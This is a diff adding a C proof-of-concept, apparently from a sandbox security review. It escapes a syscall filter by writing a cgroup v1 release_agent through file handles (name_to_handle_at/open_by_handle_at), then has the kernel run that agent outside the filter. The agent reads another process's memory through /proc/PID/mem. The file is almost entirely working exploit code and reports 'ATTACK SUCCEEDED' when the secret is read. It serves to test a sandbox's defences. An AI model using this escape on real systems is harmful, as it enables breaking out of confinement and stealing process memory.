@@ -1,0 +1,126 @@
+/* rev37-handle-release-agent.c - review 36's release agent
+ * (rev36-release-agent.c), with every cgroup v1 file opened for writing by
+ * file handle (name_to_handle_at, open_by_handle_at): an open the filter
+ * lets through (without O_TRUNC) and the supervisor never sees. Run by
+ * execve under a hardened program's filter (not our process), as root.
+ *
+ * rev37-handle-release-agent PID ADDR: the attack. Started by the kernel
+ * (its one argument the cgroup's path, "/PID-ADDR"): 31 bytes of PID's
+ * memory at ADDR (hex) into the file named after itself with ".out". */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "helper-steps.h"
+
+/* The hierarchy's root, for open_by_handle_at's mount. */
+static int top_fd = -1;
+
+static int put(const char *path, const char *text) {
+  union {
+    struct file_handle h;
+    char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
+  } u;
+  int mount_id, fd = -1;
+  u.h.handle_bytes = MAX_HANDLE_SZ;
+  if (!name_to_handle_at(AT_FDCWD, path, &u.h, &mount_id, 0))
+    fd = open_by_handle_at(top_fd, &u.h, O_WRONLY);
+  int ok = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);
+  if (fd >= 0)
+    close(fd);
+  return ok;
+}
+
+/* As the kernel's release agent: outside any filter. */
+static int agent(const char *self, const char *cgroup) {
+  char path[64], out[4200], buf[32] = {0};
+  char *dash = strchr(cgroup, '-');
+  if (!dash)
+    return 2;
+  snprintf(path, sizeof path, "/proc/%.*s/mem", (int)(dash - cgroup - 1),
+           cgroup + 1);
+  int mem = open(path, O_RDONLY);
+  if (mem < 0 || pread(mem, buf, 31, (off_t)strtoull(dash + 1, NULL, 16)) <= 0)
+    snprintf(buf, sizeof buf, "(%s)", strerror(errno));
+  snprintf(out, sizeof out, "%s.out", self);
+  int fd = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+  if (fd >= 0 && write(fd, buf, strlen(buf)) < 0)
+    return 1;
+  return 0;
+}
+
+int main(int argc, char **argv) {
+  if (argc == 2 && argv[1][0] == '/')
+    return agent(argv[0], argv[1]);
+  if (argc < 3)
+    return 2;
+  setvbuf(stdout, NULL, _IONBF, 0);
+  char top[4200], dir[4300], file[4400], out[4200], buf[64] = {0};
+  snprintf(top, sizeof top, "%s.cg", argv[0]);
+  snprintf(dir, sizeof dir, "%s/%s-%s", top, argv[1], argv[2]);
+  snprintf(file, sizeof file, "%s/release_agent", top);
+  if (!step(!unshare(CLONE_NEWNS), "unshare(CLONE_NEWNS)") ||
+      !step(!mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL),
+            "mount private") ||
+      !step(!mkdir(top, 0700), "mkdir") ||
+      !step(!mount("bh37", top, "cgroup", 0, "none,name=bh37"),
+            "mount cgroup v1") ||
+      !step((top_fd = open(top, O_RDONLY | O_DIRECTORY)) >= 0, "open top"))
+    return 1;
+  /* The control: review 36's plain open for writing is refused now. */
+  int fd = open(file, O_WRONLY);
+  printf("helper: plain open of release_agent for writing: %s\n",
+         fd < 0 ? strerror(errno) : "opened");
+  if (fd >= 0)
+    close(fd);
+  if (!step(put(file, argv[0]), "write release_agent by handle") ||
+      !step(!mkdir(dir, 0755), "mkdir cgroup"))
+    return 1;
+  snprintf(file, sizeof file, "%s/notify_on_release", dir);
+  if (!step(put(file, "1"), "write notify_on_release by handle"))
+    return 1;
+  /* A child joins the cgroup and ends: the cgroup is empty, the kernel
+   * runs the release agent. */
+  snprintf(file, sizeof file, "%s/cgroup.procs", dir);
+  pid_t c = fork();
+  if (c == 0)
+    _exit(put(file, "0") ? 0 : 1);
+  int st = 0;
+  waitpid(c, &st, 0);
+  if (!step(WIFEXITED(st) && !WEXITSTATUS(st), "join the cgroup"))
+    return 1;
+  snprintf(out, sizeof out, "%s.out", argv[0]);
+  for (int i = 0; i < 100; i++) { /* up to 10 s */
+    fd = open(out, O_RDONLY);
+    if (fd >= 0) {
+      usleep(100000);
+      if (read(fd, buf, sizeof buf - 1) < 0)
+        buf[0] = 0;
+      close(fd);
+      break;
+    }
+    usleep(100000);
+  }
+  /* Tidy for a host run natively: the hierarchy ends with its last
+   * cgroup and mount. */
+  rmdir(dir);
+  close(top_fd);
+  umount(top);
+  rmdir(top);
+  unlink(out);
+  if (!strncmp(buf, "TOP-SECRET", 10))
+    printf("ATTACK SUCCEEDED: the release agent, set through a file handle "
+           "and run by the kernel outside the filter, read '%s'\n",
+           buf);
+  else
+    printf("helper: the agent's output: '%s'\n", buf);
+  return 0;
+}
